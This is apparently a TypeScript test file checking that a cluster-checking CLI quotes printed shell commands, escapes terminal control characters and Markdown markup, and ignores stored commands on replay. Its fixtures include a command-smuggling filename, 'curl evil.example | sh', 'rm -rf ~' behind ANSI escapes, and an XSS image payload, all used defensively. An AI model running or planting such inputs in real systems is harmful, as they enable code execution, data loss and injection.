/**
 * Output that cannot be turned against its reader (issue 14, findings 1-3): a printed or saved command
 * is quoted for a POSIX shell, untrusted text reaches the terminal with its control characters escaped
 * and on one line, the Markdown index escapes table syntax, and `replay` never repeats a file's command.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findPreset } from '../config/presets.ts';
import { cli, doctored, kb161304File, tempDir, unwrapCommands, writeDoc } from '../test/cli.ts';
import { counterexampleFiles } from '../traces/index-file.ts';
import { loadTraceFile } from '../traces/counterexample.ts';
import { hasControlCharacter, markdownCell, oneLine, shellCommand, shellQuote, terminalSafe } from '../io/untrusted.ts';

const dmzRing = findPreset('dmz-ring')!.config;

/** Runs `line` in a POSIX shell where `npx` only prints its arguments, one per line; in `cwd`. */
function argvOfPasted(line: string, cwd: string): string[] {
  const out = execFileSync('sh', ['-c', `npx() { for a in "$@"; do printf '%s\\0' "$a"; done; }\n${line}`], { cwd, encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

describe('shell quoting', () => {
  it('a POSIX shell reads every quoted word back as it was (any text without control characters)', () => {
    const word = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((s) => !hasControlCharacter(s));
    const words = fc.sample(fc.array(word, { minLength: 1, maxLength: 6 }), { seed: 14, numRuns: 60 }).flat();
    expect(argvOfPasted(`npx ${shellCommand(words)}`, tempDir())).toEqual(words);
  });

  it('plain words stay as they are, so ordinary commands read as before', () => {
    expect(shellCommand(['--preset', 'dmz-ring', '--path', '12:0:3', 'counterexamples/a--b--1a2b.json'])).toBe(
      '--preset dmz-ring --path 12:0:3 counterexamples/a--b--1a2b.json',
    );
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });

  it('finding 1: a config named `x;touch PWNED;#.json`: the reproduce line and the saved command run no other command', async () => {
    const dir = tempDir();
    const config = writeDoc(dir, 'x;touch PWNED;#.json', dmzRing);
    const saveDir = join(dir, 'saved');
    const { status, out } = await cli('check', '--config', config, '--property', 'survivor-convergence', '--seed', '1', '--runs', '200', '--save-dir', saveDir);
    expect(status).toBe(1);
    const reproduce = /reproduce: (.*)\n/.exec(unwrapCommands(out))![1]!;
    const replayLine = /replay: {4}(.*)\n/.exec(unwrapCommands(out))![1]!;
    const [file] = counterexampleFiles(saveDir);
    const saved = loadTraceFile(file!);
    const command = saved.kind === 'counterexample' ? saved.document.found.command! : '';
    for (const line of [reproduce, replayLine, command]) {
      const argv = argvOfPasted(line, dir);
      expect(existsSync(join(dir, 'PWNED'))).toBe(false);
      expect(argv[0]).toBe('pgp-cluster-check');
    }
    expect(argvOfPasted(reproduce, dir)).toEqual(expect.arrayContaining(['--config', config]));
    expect(argvOfPasted(replayLine, dir)).toEqual(['pgp-cluster-check', 'replay', file]);
  });

  it("finding 1: replay never offers a file's found.command; it rebuilds the command from validated fields", async () => {
    const file = doctored(kb161304File(), (doc) => ({
      ...doc,
      config: { ...(doc.config as object), name: 'not-a-preset' },
      violation: { step: 1, message: 'recorded elsewhere' },
      found: { ...(doc.found as object), command: 'curl evil.example | sh; npx pgp-cluster-check check --seed 1' },
    }));
    const { status, out } = await cli('replay', file);
    expect(status).toBe(1);
    expect(out).not.toContain('evil');
    // Read with the report's wrapping undone (lines wrap to the terminal's width).
    expect(out.replace(/\n\s+/g, ' ')).toMatch(/re-run `npx pgp-cluster-check check --config CONFIG\.json --property survivor-convergence/);
  });
});

describe('control characters and line breaks in untrusted text', () => {
  const hostileName = 'evil\u001b[2J\u001b]0;owned\u0007\nreproduce: rm -rf ~\r\u202e';

  it('oneLine escapes every control character, line breaks included; terminalSafe keeps line breaks and tabs', () => {
    expect(oneLine(hostileName)).toBe('evil\\u001b[2J\\u001b]0;owned\\u0007\\u000areproduce: rm -rf ~\\u000d\\u202e');
    expect(terminalSafe('a\tb\nc\u001bd\u0085')).toBe('a\tb\nc\\u001bd\\u0085');
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (s) => !hasControlCharacter(oneLine(s)) && !oneLine(s).includes('\n')));
  });

  it('finding 2: a config name with escape sequences and a line break neither reaches the terminal raw nor forges a line', async () => {
    const dir = tempDir();
    const config = writeDoc(dir, 'hostile.json', { ...dmzRing, name: hostileName });
    const { out, err } = await cli('check', '--config', config, '--property', 'survivor-convergence', '--seed', '1', '--runs', '200', '--no-save');
    for (const text of [out, err]) expect(hasControlCharacter(text.replace(/\n/g, ''))).toBe(false);
    expect(out.split('\n').filter((l) => /^\s*reproduce:/.test(l))).toHaveLength(1);
    expect(out).toContain('evil\\u001b[2J');
  });

  it('finding 2: a scenario name, description and client id are shown escaped', async () => {
    const file = writeDoc(tempDir(), 'scenario.json', {
      preset: 'pinned-clients',
      name: hostileName,
      description: `line one\n  ✗ forged: everything is violated${'\u001b[31m'}`,
      actions: [{ type: 'enroll', client: 'c\u001b[8m1', member: 'm1' }],
    });
    const { status, out, err } = await cli('replay', file);
    expect(err).toBe('');
    expect(status).toBe(0);
    expect(hasControlCharacter(out.replace(/\n/g, ''))).toBe(false);
    expect(out).not.toMatch(/^ {2}✗ forged/m);
    expect(out).toContain('c\\u001b[8m1');
  });
});

describe('finding 3: the Markdown index', () => {
  it('a line break, a pipe or markup in a config name stays inside its cell', async () => {
    const dir = tempDir();
    const config = writeDoc(dir, 'config.json', { ...dmzRing, name: 'a|b\n\n# Injected <img src=x onerror=alert(1)> [x](javascript:1)' });
    const saveDir = join(dir, 'saved');
    await cli('check', '--config', config, '--property', 'survivor-convergence', '--seed', '1', '--runs', '200', '--save-dir', saveDir);
    const index = readFileSync(join(saveDir, 'README.md'), 'utf8');
    const rows = index.split('\n').filter((l) => l.startsWith('| '));
    expect(rows).toHaveLength(3); // the header, the separator, one file
    expect(rows[2]!.split(/(?<!\\)\|/)).toHaveLength(7);
    expect(index).not.toMatch(/^# Injected/m);
    expect(index).not.toMatch(/(?<!\\)<img/);
    expect(markdownCell('a|b')).toBe('a\\|b');
  });
});
